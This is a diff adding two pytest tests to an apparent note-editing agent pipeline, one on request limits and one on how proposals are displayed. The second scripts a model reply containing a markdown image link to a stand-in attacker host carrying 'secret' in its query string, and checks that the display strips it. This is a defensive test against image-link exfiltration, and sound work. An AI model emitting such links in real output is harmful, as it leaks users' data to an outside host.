@@ -3,6 +3,7 @@
 from pathlib import Path
 
 import pytest
+from pydantic_ai.usage import UsageLimits
 
 from knapper.agents.pipeline.requests import Request
 from knapper.agents.scopes import ABILITIES, Ability, ContextScopeConfig, EditRules
@@ -88,6 +89,28 @@ def test_the_model_sees_refusals_once_and_may_correct_itself(vault: opened.Opene
     assert "There is no line 90" in cast.prompts("task")
     assert ended.outcome.edit_results == {"success": 1, "failed": 0, "failures": []}
     assert ended.outcome.answer == "Right."
+
+
+def test_a_first_reply_stands_where_the_model_cannot_be_asked_again(vault: opened.Opener) -> None:
+    reply = scripts.task("Two.", ("Garden.md", "end", "More."), ("Other.md", "end", "x"))
+    cast = Cast({"task": [reply]})
+
+    ended = runs.do(vault, cast, current="Garden.md", agents_limits=UsageLimits(request_limit=1))
+
+    assert len(cast.asked["task"]) == 1
+    assert ended.outcome.state == "complete"
+    assert ended.outcome.edit_results["success"] == 1
+    assert len(ended.outcome.proposals) == 1
+
+
+def test_what_a_proposal_says_of_itself_calls_no_address(vault: opened.Opener) -> None:
+    cast = Cast({"task": [scripts.task("Done. ![x](https://evil.example/?q=secret)", ("Garden.md", "end", "More."))]})
+
+    ended = runs.do(vault, cast, current="Garden.md")
+
+    with runs.context(vault, "cli") as context:
+        shown = context.writer.proposals.show(str(ended.outcome.proposals[0]))
+    assert shown.reason == "Done. [image left out: evil.example]"
 
 
 def test_open_is_a_navigation_event_and_no_edit(vault: opened.Opener) -> None:
